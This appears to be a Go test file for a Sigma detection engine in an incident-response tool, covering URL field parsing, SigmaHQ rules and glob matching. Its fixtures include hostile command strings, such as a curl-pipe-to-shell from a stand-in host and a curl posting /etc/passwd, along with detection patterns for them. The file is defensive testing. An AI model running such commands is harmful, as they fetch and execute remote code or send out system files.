package sigma

import (
	"strings"
	"testing"

	"github.com/cordon-ir/cordon/evidence"
)

func TestURLParts(t *testing.T) {
	for _, c := range []struct{ url, stem, query, ext string }{
		{"http://dl.example/a/b.EXE?x=1#f", "/a/b.EXE", "x=1", "EXE"},
		{"paste.example.net/v1/upload?id=7", "/v1/upload", "id=7", ""},
		{"pastebin.com:443", "", "", ""},
		{"https://x.example/dir.d/file", "/dir.d/file", "", ""},
	} {
		ev := &evidence.Event{URL: c.url}
		got := []string{derived["url_stem"](ev), derived["url_query"](ev), derived["url_ext"](ev)}
		if got[0] != c.stem || got[1] != c.query || got[2] != c.ext {
			t.Errorf("%s: stem, query, ext %q, want %q %q %q", c.url, got, c.stem, c.query, c.ext)
		}
	}
}

// SigmaHQ rules on the fields the parsers now write: the User-Agent
// (Envoy, gh-aw-firewall's Squid format), the URL's extension and the
// parent process (Tetragon).
func TestSigmaHQRulesOnNewFields(t *testing.T) {
	set, err := Load(nil, "testdata/sigmahq")
	if err != nil {
		t.Fatal(err)
	}
	rclone := request("ua", "agent-1", 0, "GET", "s3.example/bucket/obj", "s3.example")
	rclone.Format, rclone.UserAgent = "envoy", "rclone/v1.66.0"
	dyn := request("dyn", "agent-1", 10, "GET", "http://host.dyndns.org/payload.Exe", "host.dyndns.org")
	java := exec("java", "agent-2", 20, "/bin/sh -c curl http://x.example/s | sh")
	java.ParentExe = "/usr/lib/jvm/bin/java"
	notJava := exec("notjava", "agent-2", 30, "/bin/sh -c curl http://x.example/s | sh")
	notJava.ParentExe = "/usr/bin/python3"
	fs := scan(t, set.Rules, []evidence.Event{rclone, dyn, java, notJava})
	for id, want := range map[string]string{
		"2c03648b-e081-41a5-b9fb-7d854a915091": "ua",   // Rclone user agent
		"195c1119-ef07-4909-bb12-e66f5e07bf3c": "dyn",  // download from a dynamic DNS host
		"d292e0af-9a18-420c-9525-ec0ac3936892": "java", // shell spawned by java
	} {
		if got := strings.Join(fired(fs, id), ","); got != want {
			t.Errorf("rule %s fired on %q, want %q", id, got, want)
		}
	}
}

// TestGlob: a pattern of literals and *s matches as its regular
// expression would, without one.
func TestGlob(t *testing.T) {
	for _, c := range []struct {
		pat, v string
		want   bool
	}{
		{"*curl*-d*", "/usr/bin/curl -s -d @/etc/passwd", true},
		{"*curl*-d*", "/usr/bin/wget -d x curl", false},
		{"ab*cd", "abcd", true},
		{"ab*cd", "abxxcd", true},
		{"ab*cd", "abc", false}, // the two may not overlap
		{"a*b*c", "aXbYc", true},
		{"a*b*c", "aXcYb", false},
		{"*a**b*", "xaxbx", true},
		{"*sh -c*base64*", "SH -C ECHO X | BASE64 -D", true}, // case-insensitive
	} {
		m, ok := newGlob(parseWildcards(c.pat), true)
		if !ok {
			t.Fatalf("%s: not a glob", c.pat)
		}
		if got := m.match(c.v); got != c.want {
			t.Errorf("%s on %q: %v, want %v", c.pat, c.v, got, c.want)
		}
	}
}
